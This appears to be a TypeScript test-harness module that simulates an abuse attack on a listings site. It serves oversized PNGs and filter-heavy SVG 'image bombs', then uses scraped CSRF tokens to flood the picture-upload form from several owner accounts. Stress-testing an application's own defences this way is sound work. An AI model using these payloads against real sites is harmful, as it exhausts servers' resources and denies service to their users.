import { bitPng, svgOf } from "../../../../test/helpers/png.ts";
import { csrfIn } from "../browser.ts";
import { formOf } from "../client.ts";
import type { Attack } from "../stranger.ts";

const huge = bitPng(16_000, 16_000);
const bomb = svgOf(bitPng(9000, 9000));
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9000" height="9000">${'<g filter="url(#a)"><filter id="a"><feGaussianBlur stdDeviation="900"/></filter><rect width="9000" height="9000"/></g>'.repeat(50)}</svg>`;

export const ownedPictures: Attack = {
  title: "Pictures of 16,000 × 16,000 pixels, and SVG that is hard to draw, set by 40 owners",
  website(req, res) {
    const isSvg = req.url?.includes("svg");
    const drawing = req.url?.includes("1.svg") ? bomb : svg;
    res.writeHead(200, { "content-type": isSvg ? "image/svg+xml" : "image/png" }).end(isSvg ? drawing : huge);
  },
  async run({ stage: { base, strangers, siteHosts }, flood, send }) {
    const forms = strangers.map(async ({ cookie: sid, listingId }) => {
      const path = `/account/listings/${listingId}/pictures`;
      const page = await send({ path, headers: { cookie: `sid=${sid}` } });
      return {
        path,
        cookie: `sid=${sid}`,
        csrf: csrfIn(page),
        seen: /name="seen" value="([^"]*)"/.exec(page.text)?.[1] ?? "",
      };
    });
    await flood(8, async (nth) => {
      const { path, cookie, csrf, seen } = (await forms[nth % forms.length])!;
      const host = siteHosts[nth % siteHosts.length];
      const pictures = Array.from({ length: 6 }, (_, at): [string, string][] => [
        [`pictures.${at}.url`, `https://${host}/${nth}-${at}.${at % 2 ? "svg" : "png"}`],
        [`pictures.${at}.alt`, "A picture"],
      ]);
      const { headers = {}, body = "" } = formOf(
        base,
        path,
        { csrf, seen, ...Object.fromEntries(pictures.flat()) },
        cookie,
      );
      await send({ method: "POST", path, headers, body });
    });
  },
};
